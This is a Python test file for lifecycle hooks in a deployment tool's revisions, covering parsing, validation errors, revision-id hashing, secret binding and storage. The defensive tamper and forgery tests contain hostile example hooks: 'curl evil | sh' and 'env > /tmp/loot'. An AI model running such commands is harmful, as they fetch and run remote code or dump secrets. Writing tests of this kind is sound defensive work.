"""Lifecycle hooks in a revision: read from its hooks/ folder (a directory or a tar), validated
with one clear error each, hashed into the id and the binding, stored and read back."""

from __future__ import annotations

import dataclasses
import io
import os
import tarfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from flotilla.adapters import items
from flotilla.adapters.secrets import LocalSecretBox
from flotilla.cli.revision_sources import from_directory, from_files, from_tar
from flotilla.engine.errors import SecretError, ValidationError
from flotilla.engine.records import DEFAULT_HOOK_TIMEOUT_SECONDS, Hook
from flotilla.engine.revisions import (
    binding_for,
    build_revision,
    revision_id,
    verify_revision_id,
)

BOX = LocalSecretBox(os.urandom(32))
WHEN = datetime(2026, 12, 5, tzinfo=UTC)
WEB = "[Service]\nExecStart=/usr/bin/web\n"
VALIDATE = "#!/bin/sh\ncurl -fsS http://localhost:8080/health\n"


def a_revision_directory(root: Path, hooks: dict[str, str]) -> Path:
    (root / "web.service").write_text(WEB)
    (root / "hooks").mkdir()
    for name, text in hooks.items():
        (root / "hooks" / name).write_text(text)
    return root


def test_hooks_are_read_from_the_hooks_folder_with_default_and_given_timeouts(
    tmp_path: Path,
) -> None:
    sources = from_directory(
        a_revision_directory(
            tmp_path,
            {"validate": VALIDATE, "before-stop": "echo bye\n", "timeouts": "validate = 60\n"},
        )
    )

    assert sources.units == {"web.service": WEB}
    assert sources.hooks == {
        "before-stop": Hook("echo bye\n", DEFAULT_HOOK_TIMEOUT_SECONDS),
        "validate": Hook(VALIDATE, 60),
    }


def test_hooks_in_a_tar_read_as_in_a_directory(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in (("./web.service", WEB), ("./hooks/validate", VALIDATE)):
            info = tarfile.TarInfo(name)
            info.size = len(data.encode())
            archive.addfile(info, io.BytesIO(data.encode()))
        folder = tarfile.TarInfo("./hooks")
        folder.type = tarfile.DIRTYPE
        archive.addfile(folder)

    assert from_tar(buffer.getvalue()).hooks == {"validate": Hook(VALIDATE)}


@pytest.mark.parametrize(
    ("files", "message"),
    [
        ({"hooks/deploy": b"x"}, "unknown hook hooks/deploy: a revision's hooks are before-stop"),
        ({"hooks/validate": b"  \n"}, "hook validate is empty"),
        ({"hooks/validate": b"\xff"}, "hooks/validate is not UTF-8 text"),
        ({"hooks/validate": b"a\x00"}, "hooks/validate is binary"),
        ({"hooks/validate": b"x", "hooks/timeouts": b"validate=0"}, "invalid timeout 0"),
        ({"hooks/validate": b"x", "hooks/timeouts": b"validate=3601"}, "from 1 to 3600"),
        ({"hooks/validate": b"x", "hooks/timeouts": b"validate=1m"}, "expected HOOK=SECONDS"),
        ({"hooks/validate": b"x", "hooks/timeouts": b"deploy=5"}, "expected HOOK=SECONDS"),
        (
            {"hooks/validate": b"x", "hooks/timeouts": b"validate=5\nvalidate=6"},
            "the timeout of validate is set twice",
        ),
        (
            {"hooks/validate": b"x", "hooks/timeouts": b"after-start=5"},
            "sets a timeout for after-start, but there is no hooks/after-start",
        ),
        ({"more/validate": b"x"}, "inside a directory other than hooks/"),
    ],
)
def test_a_bad_hook_is_refused_with_one_clear_line(files: dict[str, bytes], message: str) -> None:
    with pytest.raises(ValidationError) as refused:
        from_files({"web.service": WEB.encode(), **files})

    assert message in refused.value.message
    assert "\n" not in refused.value.message


def test_a_folder_inside_hooks_is_refused(tmp_path: Path) -> None:
    root = a_revision_directory(tmp_path, {"validate": VALIDATE})
    (root / "hooks" / "lib").mkdir()

    with pytest.raises(ValidationError, match=r"'lib' in .* is a directory; hooks/ holds"):
        from_directory(root)


def test_any_other_folder_is_still_refused(tmp_path: Path) -> None:
    root = a_revision_directory(tmp_path, {})
    (root / "scripts").mkdir()

    with pytest.raises(ValidationError, match=r"'scripts' in .* is a directory"):
        from_directory(root)


def test_hooks_are_part_of_the_id_and_a_revision_without_keeps_its_old_id() -> None:
    plain = build_revision("api", "v1", {"web.service": WEB}, {}, BOX, WHEN)
    hooked = build_revision(
        "api", "v1", {"web.service": WEB}, {}, BOX, WHEN, {"validate": Hook(VALIDATE)}
    )
    longer = build_revision(
        "api", "v1", {"web.service": WEB}, {}, BOX, WHEN, {"validate": Hook(VALIDATE, 61)}
    )

    assert plain.id == revision_id("api", {"web.service": WEB}, None)  # as before hooks
    assert len({plain.id, hooked.id, longer.id}) == 3
    assert verify_revision_id(hooked)
    tampered = dataclasses.replace(hooked, hooks={"validate": Hook("curl evil | sh\n")})
    assert not verify_revision_id(tampered)


def test_a_hook_added_to_a_copy_cannot_open_the_revisions_secrets() -> None:
    """Hooks run with the revision's environment: the sealed environment is bound to them."""
    original = build_revision(
        "api", "v1", {"web.service": WEB}, {"web.service": {"TOKEN": "s3cret"}}, BOX, WHEN
    )
    forged = dataclasses.replace(original, hooks={"after-start": Hook("env > /tmp/loot\n")})
    forged = dataclasses.replace(
        forged, id=revision_id("api", forged.units, forged.environment, forged.hooks)
    )

    assert verify_revision_id(forged)  # self-consistent: the id check alone passes it
    assert original.environment is not None
    with pytest.raises(SecretError):
        BOX.open("api", forged.environment, binding_for(forged))  # type: ignore[arg-type]
    assert BOX.open("api", original.environment, binding_for(original)) == {
        "web.service": {"TOKEN": "s3cret"}
    }


def test_a_variable_two_units_set_differently_is_refused_only_with_hooks() -> None:
    units = {"web.service": WEB, "db.service": "[Service]\nExecStart=/usr/bin/db\n"}
    environments = {"web.service": {"PORT": "80"}, "db.service": {"PORT": "5432"}}
    build_revision("api", "v1", units, environments, BOX, WHEN)  # no hooks: fine

    with pytest.raises(ValidationError) as refused:
        build_revision("api", "v1", units, environments, BOX, WHEN, {"validate": Hook("true\n")})

    assert "PORT is set differently in db.service and web.service" in refused.value.message
    assert "80" not in refused.value.message
    assert "5432" not in refused.value.message


def test_hooks_are_stored_and_read_back_as_schema_3_and_others_keep_their_schema() -> None:
    hooked = build_revision(
        "api", "v1", {"web.service": WEB}, {"web.service": {"T": "x"}}, BOX, WHEN,
        {"validate": Hook(VALIDATE, 30), "after-start": Hook("true\n")},
    )  # fmt: skip
    plain = build_revision("api", "v2", {"web.service": WEB}, {}, BOX, WHEN)

    item = items.revision_to_item(hooked)
    assert item["schema"] == 3
    assert items.revision_from_item(item) == hooked
    assert items.revision_to_item(plain)["schema"] == 1
    assert "hooks" not in items.revision_to_item(plain)
    assert "validate" in items.describe_revision(hooked)
